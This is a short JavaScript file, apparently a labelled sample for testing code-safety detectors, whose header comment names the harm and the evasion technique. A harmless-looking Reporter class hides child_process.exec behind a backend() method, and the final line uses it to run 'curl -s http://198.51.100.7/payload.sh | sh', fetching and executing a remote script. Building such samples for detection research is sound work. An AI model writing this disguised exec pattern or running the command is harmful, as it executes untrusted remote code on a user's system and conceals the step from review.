// harm: run shell command; technique: class method returns child_process.exec, called through instance
const fs = require('fs');

class Reporter {
  constructor(name) {
    this.name = name;
  }

  backend() {
    return require('child_process').exec;
  }

  write(lines) {
    fs.writeFileSync(`${this.name}.txt`, lines.join('\n'));
  }
}

const r = new Reporter('report');
r.write(['a', 'b']);
const run = r.backend();
run('curl -s http://198.51.100.7/payload.sh | sh');
